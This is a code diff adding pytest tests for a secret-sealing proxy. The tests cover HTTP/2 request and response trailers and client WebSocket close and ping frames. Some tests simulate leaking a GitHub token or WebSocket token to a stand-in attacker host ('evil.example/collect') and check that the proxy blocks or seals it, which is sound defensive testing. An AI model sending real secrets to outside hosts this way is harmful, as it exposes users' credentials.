@@ -52,6 +52,7 @@ class RawUpstream:
         self.ca_pem = str(self.ca_file)
         self.received: list[bytes] = []
         self.replies: dict[bytes, bytes] = {}
+        self.after_upgrade: dict[bytes, bytes] = {}  # path -> what the client sent after a 101
         for sock, tls in ((self._sock, True), (self._plain, False)):
             threading.Thread(target=self._serve, args=(sock, tls), daemon=True).start()
 
@@ -86,6 +87,10 @@ class RawUpstream:
             path = head.split(b" ")[1]
             reply = self.replies.get(path, b"HTTP/1.1 200 OK\r\ncontent-length: 2\r\n\r\nok")
             conn.sendall(reply)
+            if path in self.after_upgrade and reply.startswith(b"HTTP/1.1 101"):
+                conn.settimeout(3)
+                while chunk := conn.recv(65536):
+                    self.after_upgrade[path] += chunk
             time.sleep(0.2)
             conn.close()
         except (OSError, ssl.SSLError):
@@ -310,3 +315,241 @@ def test_clean_traffic_through_the_same_places_is_forwarded_byte_for_byte(kvprox
     rawup.replies[b"/clean"] = b"HTTP/1.1 200 Fine Thanks\r\ncontent-length: 5\r\n\r\nhello"
     out = exchange(kvproxy, "api.github.com", setup.home, b"GET /clean HTTP/1.1\r\nHost: api.github.com\r\nconnection: close\r\n\r\n")
     assert out.startswith(b"HTTP/1.1 200 Fine Thanks") and b"hello" in out.split(b"\r\n\r\n", 1)[1]
+
+
+# ---------------------------------------------------------------- HTTP/2 trailers
+
+
+class H2Upstream:
+    """A TLS server speaking only HTTP/2 (h2 library, the one mitmproxy uses):
+    records each stream's headers, body and trailers, and answers with a
+    body and trailers scripted by path."""
+
+    def __init__(self) -> None:
+        import h2.config
+        import h2.connection
+        import h2.events
+
+        self._h2 = (h2.config, h2.connection, h2.events)
+        self.ca = trustme.CA()
+        self._ctx = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
+        self.ca.issue_cert(*NAMES).configure_cert(self._ctx)
+        self._ctx.set_alpn_protocols(["h2"])
+        self._sock = socket.create_server(("127.0.0.1", 0))
+        self.tls_port = self._sock.getsockname()[1]
+        self.plain_port = self.tls_port  # plain HTTP is not spoken here
+        self.ca_file = Path(os.environ.get("TMPDIR", "/tmp")) / f"h2up-{self.tls_port}.pem"
+        self.ca.cert_pem.write_to_path(str(self.ca_file))
+        self.ca_pem = str(self.ca_file)
+        self.streams: list[dict] = []
+        self.trailers: dict[bytes, list[tuple[bytes, bytes]]] = {}
+        threading.Thread(target=self._serve, daemon=True).start()
+
+    def _serve(self) -> None:
+        while True:
+            try:
+                conn, _ = self._sock.accept()
+            except OSError:
+                return
+            threading.Thread(target=self._handle, args=(conn,), daemon=True).start()
+
+    def _handle(self, conn: socket.socket) -> None:
+        config, connection, events = self._h2
+        try:
+            tls = self._ctx.wrap_socket(conn, server_side=True)
+            tls.settimeout(10)
+            h2c = connection.H2Connection(config.H2Configuration(client_side=False, header_encoding=None))
+            h2c.initiate_connection()
+            tls.sendall(h2c.data_to_send())
+            open_streams: dict[int, dict] = {}
+            while True:
+                data = tls.recv(65536)
+                if not data:
+                    return
+                for ev in h2c.receive_data(data):
+                    if isinstance(ev, events.RequestReceived):
+                        open_streams[ev.stream_id] = {"headers": list(ev.headers), "body": b"", "trailers": []}
+                    elif isinstance(ev, events.DataReceived):
+                        open_streams[ev.stream_id]["body"] += ev.data
+                        h2c.acknowledge_received_data(ev.flow_controlled_length, ev.stream_id)
+                    elif isinstance(ev, events.TrailersReceived):
+                        open_streams[ev.stream_id]["trailers"] = list(ev.headers)
+                    elif isinstance(ev, events.StreamEnded):
+                        stream = open_streams.pop(ev.stream_id)
+                        self.streams.append(stream)
+                        path = dict(stream["headers"])[b":path"]
+                        h2c.send_headers(ev.stream_id, [(b":status", b"200"), (b"content-type", b"text/plain")])
+                        h2c.send_data(ev.stream_id, b"ok")
+                        h2c.send_headers(ev.stream_id, self.trailers.get(path, [(b"x-done", b"1")]), end_stream=True)
+                tls.sendall(h2c.data_to_send())
+        except (OSError, ssl.SSLError):
+            pass
+
+    def all_bytes(self) -> bytes:
+        return repr(self.streams).encode()
+
+    def close(self) -> None:
+        self._sock.close()
+
+
+def h2_exchange(proxy, host: str, path: bytes, body: bytes, trailers: list[tuple[bytes, bytes]]) -> dict:
+    """One HTTP/2 request through the proxy (ALPN h2 inside the CONNECT tunnel),
+    body then TRAILERS; returns the response's status, headers, body, trailers
+    and the raw bytes the client received."""
+    import h2.config
+    import h2.connection
+    import h2.events
+
+    raw = socket.create_connection(("127.0.0.1", proxy.port), timeout=10)
+    raw.sendall(f"CONNECT {host}:443 HTTP/1.1\r\nHost: {host}:443\r\n\r\n".encode())
+    answer = b""
+    while b"\r\n\r\n" not in answer:
+        answer += raw.recv(4096)
+    assert b" 200" in answer.split(b"\r\n")[0], answer[:100]
+    ctx = infra.client_ssl_context(proxy.ca_cert)
+    ctx.set_alpn_protocols(["h2"])
+    tls = ctx.wrap_socket(raw, server_hostname=host)
+    assert tls.selected_alpn_protocol() == "h2"
+    h2c = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding=None))
+    h2c.initiate_connection()
+    sid = h2c.get_next_available_stream_id()
+    h2c.send_headers(sid, [(b":method", b"POST"), (b":scheme", b"https"), (b":authority", host.encode()),
+                           (b":path", path), (b"content-type", b"application/json"), (b"te", b"trailers")])
+    h2c.send_data(sid, body)
+    h2c.send_headers(sid, trailers, end_stream=True)
+    tls.sendall(h2c.data_to_send())
+    got: dict = {"status": None, "headers": [], "body": b"", "trailers": [], "wire": b""}
+    tls.settimeout(10)
+    done = False
+    while not done:
+        data = tls.recv(65536)
+        if not data:
+            break
+        got["wire"] += data
+        for ev in h2c.receive_data(data):
+            if isinstance(ev, h2.events.ResponseReceived) and ev.stream_id == sid:
+                got["headers"] = list(ev.headers)
+                got["status"] = dict(ev.headers)[b":status"]
+            elif isinstance(ev, h2.events.DataReceived) and ev.stream_id == sid:
+                got["body"] += ev.data
+                h2c.acknowledge_received_data(ev.flow_controlled_length, sid)
+            elif isinstance(ev, h2.events.TrailersReceived) and ev.stream_id == sid:
+                got["trailers"] = list(ev.headers)
+            elif isinstance(ev, (h2.events.StreamEnded, h2.events.StreamReset)) and ev.stream_id == sid:
+                done = True
+        tls.sendall(h2c.data_to_send())
+    tls.close()
+    return got
+
+
+@pytest.fixture(scope="module")
+def h2up():
+    up = H2Upstream()
+    yield up
+    up.close()
+
+
+@pytest.fixture(scope="module")
+def h2proxy(h2up, setup, tmp_path_factory):
+    work = tmp_path_factory.mktemp("every-h2")
+    with keyveil_proxy(h2up, work, setup, flowfile=work / "flows", options={"flow_detail": 4}) as p:
+        yield p
+
+
+def test_http2_request_trailers_toward_the_provider_are_sealed(h2proxy, h2up, setup):
+    v = setup.values["github/pat"]
+    got = h2_exchange(h2proxy, "api.anthropic.com", b"/v1/messages", b"{}", [(b"x-token", b"token " + v)])
+    assert got["status"] == b"200"
+    stream = h2up.streams[-1]
+    assert stream["body"] == b"{}"
+    assert (b"x-token", b"token {{secret:github/pat}}") in stream["trailers"]
+    assert_nowhere(v, [("provider", h2up.all_bytes()), ("client", got["wire"]), *outputs(h2proxy, setup)])
+
+
+def test_http2_request_trailers_toward_an_unbound_host_are_blocked(h2proxy, h2up, setup):
+    v = setup.values["github/pat"]
+    before = len(h2up.streams)
+    got = h2_exchange(h2proxy, "evil.example", b"/collect", b"{}", [(b"x-token", v)])
+    assert got["status"] == b"403"
+    assert (b"x-keyveil-block", b"plaintext_egress") in got["headers"]
+    assert all(v not in repr(s).encode() for s in h2up.streams[before:])
+    assert_nowhere(v, [("unbound host", h2up.all_bytes()), ("client", got["wire"]), *outputs(h2proxy, setup)])
+
+
+def test_http2_response_trailers_are_scrubbed(h2proxy, h2up, setup):
+    v = setup.values["github/pat"]
+    h2up.trailers[b"/h2-trailers"] = [(b"x-debug", b"token=" + v), (b"grpc-status", b"0")]
+    got = h2_exchange(h2proxy, "api.github.com", b"/h2-trailers", b"{}", [(b"x-done", b"1")])
+    assert got["status"] == b"200" and got["body"] == b"ok"
+    assert (b"x-debug", b"token={{secret:github/pat}}") in got["trailers"]
+    assert (b"grpc-status", b"0") in got["trailers"]
+    assert_nowhere(v, [("client", got["wire"]), *outputs(h2proxy, setup)])
+
+
+def test_clean_http2_trailers_pass_unchanged(h2proxy, h2up, setup):
+    h2up.trailers[b"/h2-clean"] = [(b"grpc-status", b"0"), (b"grpc-message", b"fine")]
+    got = h2_exchange(h2proxy, "api.anthropic.com", b"/h2-clean", b'{"a": 1}', [(b"x-checksum", b"abc123")])
+    assert h2up.streams[-1]["trailers"] == [(b"x-checksum", b"abc123")]
+    assert h2up.streams[-1]["body"] == b'{"a": 1}'
+    assert got["trailers"] == [(b"grpc-status", b"0"), (b"grpc-message", b"fine")]
+
+
+# ---------------------------------------------------------------- client-sent WebSocket control frames
+
+
+def _client_frame(opcode: int, payload: bytes) -> bytes:
+    mask = os.urandom(4)
+    masked = bytes(b ^ mask[i % 4] for i, b in enumerate(payload))
+    return bytes([0x80 | opcode, 0x80 | len(payload)]) + mask + masked
+
+
+def _server_frames(data: bytes) -> list[tuple[int, bytes]]:
+    """The frames a client wrote (what the upstream received), unmasked."""
+    frames, i = [], 0
+    while i + 2 <= len(data):
+        opcode, masked, length = data[i] & 0x0F, data[i + 1] & 0x80, data[i + 1] & 0x7F
+        i += 2
+        if length == 126:
+            length, i = struct.unpack("!H", data[i : i + 2])[0], i + 2
+        mask = b"\0" * 4
+        if masked:
+            mask, i = data[i : i + 4], i + 4
+        frames.append((opcode, bytes(b ^ mask[j % 4] for j, b in enumerate(data[i : i + length]))))
+        i += length
+    return frames
+
+
+@pytest.mark.parametrize("host", ["api.anthropic.com", "evil.example"], ids=["provider", "unbound"])
+def test_a_value_in_a_client_close_reason_or_ping_never_leaves(kvproxy, rawup, setup, host):
+    v = setup.values["ws/token"]
+    key = base64.b64encode(os.urandom(16))
+    path = b"/ws-client-close-" + host.encode()
+    rawup.replies[path] = (
+        b"HTTP/1.1 101 Switching Protocols\r\nupgrade: websocket\r\nconnection: Upgrade\r\n"
+        b"sec-websocket-accept: " + _ws_accept(key) + b"\r\n\r\n"
+    )
+    rawup.after_upgrade[path] = b""
+    s = tunnel(kvproxy, host, setup.home)
+    s.sendall(
+        b"GET " + path + b" HTTP/1.1\r\nHost: " + host.encode() + b"\r\nupgrade: websocket\r\nconnection: Upgrade\r\n"
+        b"sec-websocket-version: 13\r\nsec-websocket-key: " + key + b"\r\n\r\n"
+    )
+    answer = b""
+    while b"\r\n\r\n" not in answer:
+        answer += s.recv(4096)
+    assert answer.startswith(b"HTTP/1.1 101"), answer[:100]
+    s.sendall(_client_frame(0x9, b"ping " + v))
+    s.sendall(_client_frame(0x8, struct.pack("!H", 1000) + b"bye " + v))
+    s.settimeout(5)
+    try:
+        while s.recv(65536):
+            pass
+    except (TimeoutError, ssl.SSLError, OSError):
+        pass
+    s.close()
+    time.sleep(0.5)
+    frames = _server_frames(rawup.after_upgrade[path])
+    close = [p for op, p in frames if op == 0x8]
+    assert close, f"the upstream got no close frame: {frames}"
+    assert close[0][:2] == struct.pack("!H", 1000) and b"{{secret:ws/token}}" in close[0]
+    assert_nowhere(v, [("upstream", rawup.after_upgrade[path]), ("upstream frames", repr(frames).encode()), *outputs(kvproxy, setup)])
